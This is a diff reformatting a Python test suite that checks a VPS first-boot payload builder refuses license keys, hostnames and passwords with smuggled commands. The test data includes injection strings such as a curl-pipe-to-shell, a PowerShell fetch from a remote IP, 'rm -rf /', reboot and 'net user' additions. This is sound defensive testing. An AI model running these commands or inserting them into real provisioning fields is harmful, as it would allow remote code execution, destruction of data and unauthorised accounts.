@@ -24,17 +24,39 @@ PLESK = "A00Q00-28H603-ABCDEF-GH1234-JKLMN0"
 WINDOWS = "VDYBN-27WPP-V4HQT-9VMD4-VMK7H"
 MSSQL = "VK7JG-NPHTM-C97JM-9MPGT-3V66T"
 UNATTEND = "{urn:schemas-microsoft-com:unattend}"
-INJECTIONS = ["; curl -s http://203.0.113.9/x | sh", "$(reboot)", "`id`", "& net user x /add",
-              "\n  - rm -rf /", "' ; reboot ; '", '" & calc & "', "|| shutdown -h now",
-              "\r\nruncmd: [reboot]", "%COMSPEC% /c calc", "^& calc"]
+INJECTIONS = [
+    "; curl -s http://203.0.113.9/x | sh",
+    "$(reboot)",
+    "`id`",
+    "& net user x /add",
+    "\n  - rm -rf /",
+    "' ; reboot ; '",
+    '" & calc & "',
+    "|| shutdown -h now",
+    "\r\nruncmd: [reboot]",
+    "%COMSPEC% /c calc",
+    "^& calc",
+]
 
 
 def plan(hostname="vps-2001.example.net", kinds=("plesk",), init="cloud-init") -> Plan:
-    return Plan(order_id="2001", vm_name="vps-2001", engine="sim", template_name="t",
-                template_id="tid", template_version=1, cluster="prod-a", cpus=2,
-                memory_mib=4096, guaranteed_mib=4096, disk_gib=80, hostname=hostname,
-                init_kind=init, license_kinds=kinds,
-                admin_user="Administrator" if init == "sysprep" else "root")
+    return Plan(
+        order_id="2001",
+        vm_name="vps-2001",
+        engine="sim",
+        template_name="t",
+        template_id="tid",
+        template_version=1,
+        cluster="prod-a",
+        cpus=2,
+        memory_mib=4096,
+        guaranteed_mib=4096,
+        disk_gib=80,
+        hostname=hostname,
+        init_kind=init,
+        license_kinds=kinds,
+        admin_user="Administrator" if init == "sysprep" else "root",
+    )
 
 
 def linux_commands(script: str) -> tuple[dict, list[list[str]]]:
@@ -53,9 +75,11 @@ def windows_commands(xml: str) -> tuple[ET.Element, list[str]]:
 # --------------------------------------------------------------- the attacks, each
 @pytest.mark.parametrize("injection", INJECTIONS)
 def test_a_key_with_a_command_in_it_never_reaches_the_script(injection):
-    for init, kinds, kind in (("cloud-init", ("plesk",), "plesk"),
-                              ("sysprep", ("windows", "plesk"), "plesk"),
-                              ("sysprep", ("windows", "mssql"), "mssql")):
+    for init, kinds, kind in (
+        ("cloud-init", ("plesk",), "plesk"),
+        ("sysprep", ("windows", "plesk"), "plesk"),
+        ("sysprep", ("windows", "mssql"), "mssql"),
+    ):
         keys = {"windows": WINDOWS, "plesk": PLESK, "mssql": MSSQL}
         keys[kind] = keys[kind] + injection
         with pytest.raises(FirstBootRefused) as refused:
@@ -64,24 +88,40 @@ def test_a_key_with_a_command_in_it_never_reaches_the_script(injection):
         assert "credentials set license 2001" in refused.value.hint
 
 
-@pytest.mark.parametrize("hostname", ["vps.example.net\nruncmd: [reboot]", "vps\n.example.net",
-                                      "vps.example.net\n", "a;reboot", "vps .example.net"])
+@pytest.mark.parametrize(
+    "hostname",
+    [
+        "vps.example.net\nruncmd: [reboot]",
+        "vps\n.example.net",
+        "vps.example.net\n",
+        "a;reboot",
+        "vps .example.net",
+    ],
+)
 def test_a_hostname_that_is_not_one_never_reaches_the_payload(hostname):
     for init, kinds in (("cloud-init", ("plesk",)), ("sysprep", ("windows",))):
         with pytest.raises(FirstBootRefused) as refused:
-            firstboot.initialization(plan(hostname=hostname, kinds=kinds, init=init),
-                                     {"plesk": PLESK, "windows": WINDOWS}, "Adm1n-Pass-Word")
+            firstboot.initialization(
+                plan(hostname=hostname, kinds=kinds, init=init),
+                {"plesk": PLESK, "windows": WINDOWS},
+                "Adm1n-Pass-Word",
+            )
         assert refused.value.message.startswith("hostname:")
 
 
 def test_the_payloads_carry_exactly_the_commands_meant():
-    data, commands = linux_commands(firstboot.cloud_config(plan(kinds=("plesk", "cpanel")),
-                                                           {"plesk": PLESK}))
+    data, commands = linux_commands(
+        firstboot.cloud_config(plan(kinds=("plesk", "cpanel")), {"plesk": PLESK})
+    )
     assert data["fqdn"] == "vps-2001.example.net"
     assert commands[0] == ["plesk", "bin", "license", "--install", PLESK]
-    root, lines = windows_commands(firstboot.unattend_xml(
-        plan(kinds=("windows", "plesk", "mssql"), init="sysprep"),
-        {"windows": WINDOWS, "plesk": PLESK, "mssql": MSSQL}, "P<&>'\"ss-1"))
+    root, lines = windows_commands(
+        firstboot.unattend_xml(
+            plan(kinds=("windows", "plesk", "mssql"), init="sysprep"),
+            {"windows": WINDOWS, "plesk": PLESK, "mssql": MSSQL},
+            "P<&>'\"ss-1",
+        )
+    )
     assert lines[0] == f"cmd /c plesk bin license --install {PLESK}"
     assert f"/PID={MSSQL} " in lines[1]
     assert root.find(f".//{UNATTEND}ProductKey").text == WINDOWS
@@ -90,33 +130,33 @@ def test_the_payloads_carry_exactly_the_commands_meant():
 
 def test_a_password_xml_cannot_carry_is_refused():
     with pytest.raises(FirstBootRefused):
-        firstboot.unattend_xml(plan(kinds=("windows",), init="sysprep"), {"windows": WINDOWS},
-                               "pass\x00word")
+        firstboot.unattend_xml(
+            plan(kinds=("windows",), init="sysprep"), {"windows": WINDOWS}, "pass\x00word"
+        )
 
 
 # --------------------------------------------------------------------- properties
 hostile_text = st.text(alphabet=st.characters(codec="utf-8"), max_size=60)
-key_alphabet = st.sampled_from(list(string.ascii_uppercase + string.digits + "-;|&$`'\"\n "
-                                    "<>^%()"))
+key_alphabet = st.sampled_from(list(string.ascii_uppercase + string.digits + "-;|&$`'\"\n <>^%()"))
 
 
 def keyish(size):
     return st.lists(key_alphabet, min_size=size - 3, max_size=size + 8).map("".join)
 
 
-SETTINGS = settings(max_examples=300, deadline=None,
-                    suppress_health_check=[HealthCheck.too_slow])
+SETTINGS = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 
 
 @SETTINGS
-@given(key=st.one_of(hostile_text, keyish(34)), hostname=st.one_of(hostile_text, st.just(
-    "vps-2001.example.net")))
+@given(
+    key=st.one_of(hostile_text, keyish(34)),
+    hostname=st.one_of(hostile_text, st.just("vps-2001.example.net")),
+)
 @example(key=PLESK + "; reboot", hostname="vps-2001.example.net")
 @example(key=PLESK, hostname="vps-2001.example.net\n")
 def test_linux_payload_always_parses_and_runs_only_the_license_command(key, hostname):
     try:
-        script = firstboot.cloud_config(plan(hostname=hostname, kinds=("plesk",)),
-                                        {"plesk": key})
+        script = firstboot.cloud_config(plan(hostname=hostname, kinds=("plesk",)), {"plesk": key})
     except FirstBootRefused:
         return
     data, commands = linux_commands(script)
@@ -128,15 +168,22 @@ def test_linux_payload_always_parses_and_runs_only_the_license_command(key, host
 
 
 @SETTINGS
-@given(plesk=st.one_of(hostile_text, keyish(34)), mssql=st.one_of(hostile_text, keyish(29)),
-       hostname=st.one_of(hostile_text, st.just("win-2001.example.net")),
-       password=hostile_text)
-def test_windows_payload_always_parses_and_runs_only_the_license_commands(plesk, mssql,
-                                                                          hostname, password):
+@given(
+    plesk=st.one_of(hostile_text, keyish(34)),
+    mssql=st.one_of(hostile_text, keyish(29)),
+    hostname=st.one_of(hostile_text, st.just("win-2001.example.net")),
+    password=hostile_text,
+)
+def test_windows_payload_always_parses_and_runs_only_the_license_commands(
+    plesk, mssql, hostname, password
+):
     keys = {"windows": WINDOWS, "plesk": plesk, "mssql": mssql}
     try:
-        xml = firstboot.unattend_xml(plan(hostname=hostname, kinds=("windows", "plesk", "mssql"),
-                                          init="sysprep"), keys, password)
+        xml = firstboot.unattend_xml(
+            plan(hostname=hostname, kinds=("windows", "plesk", "mssql"), init="sysprep"),
+            keys,
+            password,
+        )
     except FirstBootRefused:
         return
     root, lines = windows_commands(xml)
@@ -164,8 +211,10 @@ def test_a_valid_hostname_is_the_whole_string_and_nothing_else(name):
 
 
 @settings(max_examples=100, deadline=None)
-@given(label=st.from_regex(r"[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?", fullmatch=True),
-       tail=st.sampled_from(["\n", "\r", "\x00", " ", "\x1b", "\u2028", ";", "\t"]))
+@given(
+    label=st.from_regex(r"[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?", fullmatch=True),
+    tail=st.sampled_from(["\n", "\r", "\x00", " ", "\x1b", "\u2028", ";", "\t"]),
+)
 def test_a_hostname_with_anything_after_it_is_refused(label, tail):
     name = f"{label}.example.net{tail}"
     assert valid_hostname(f"{label}.example.net")
@@ -176,7 +225,8 @@ def test_a_hostname_with_anything_after_it_is_refused(label, tail):
 
 # ---------------------------------------------------- the runner, right before use
 def test_the_runner_rechecks_a_stored_key_before_it_builds_the_payload(
-        flow_services, add_order, engine_sim):
+    flow_services, add_order, engine_sim
+):
     """A key that reached the secret store by another path (an older console, a hand edit)
     is checked again when the job builds the first-boot payload: the job fails, resumable
     once the key is fixed, and the engine never receives the command."""
@@ -189,14 +239,17 @@ def test_the_runner_rechecks_a_stored_key_before_it_builds_the_payload(
     add_order("2002", "VPS Windows Plesk")
     runner = Runner(flow_services, timing=FAST)
     planned = plan_for(flow_services, "2002", Overrides(hostname="win-2002.example.net"))
-    job = runner.launch("2002", planned, {"windows": WINDOWS_KEY, "plesk": PLESK_CODE},
-                        confirm_warnings=True)
-    flow_services.secrets.set(license_secret("2002", "plesk"),
-                              PLESK_CODE + " & powershell -c iwr http://203.0.113.9/x")
+    job = runner.launch(
+        "2002", planned, {"windows": WINDOWS_KEY, "plesk": PLESK_CODE}, confirm_warnings=True
+    )
+    flow_services.secrets.set(
+        license_secret("2002", "plesk"), PLESK_CODE + " & powershell -c iwr http://203.0.113.9/x"
+    )
     failed = runner.run(job.id)
     assert (failed.state, failed.failed_step) == ("failed", "initializing")
-    assert failed.error_code == "unsafe_first_boot_value" and "license.plesk" in \
-        failed.error_message
+    assert (
+        failed.error_code == "unsafe_first_boot_value" and "license.plesk" in failed.error_message
+    )
     assert "powershell" not in str(engine_sim.vm("vps-2002").get("initialization") or "")
     flow_services.secrets.set(license_secret("2002", "plesk"), PLESK_CODE)
     done = runner.retry(job.id)
